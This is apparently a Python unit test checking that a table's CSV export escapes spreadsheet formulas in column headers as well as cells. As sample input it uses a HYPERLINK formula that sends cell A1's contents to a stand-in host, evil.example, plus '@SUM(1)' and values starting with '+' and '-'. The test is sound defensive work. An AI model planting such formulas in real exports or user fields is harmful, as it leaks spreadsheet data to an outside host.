"""A table's CSV neutralises formulas in its header too, not only in its cells: a column's label can come
from data typed by users (a cohort's name is a column of the closure-outcomes table)."""

import csv
import io

from patto.monitoring.tables import COUNT, Column, Table


def test_a_header_starting_with_a_formula_is_written_as_text():
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Apri")'
    table = Table(
        key="esiti",
        title="Esiti",
        row_header="+Esito",
        columns=[Column("cohort", formula, COUNT), Column("district", "@SUM(1)", COUNT)],
        rows=[("Concluso", {"cohort": 7, "district": 9}), ("-1", {"cohort": 8, "district": 10})],
    )
    response = table.csv_response("esiti")
    header, *rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert header == ["'+Esito", "'" + formula, "'@SUM(1)"]
    assert rows[1][0] == "'-1"  # the cells, as before
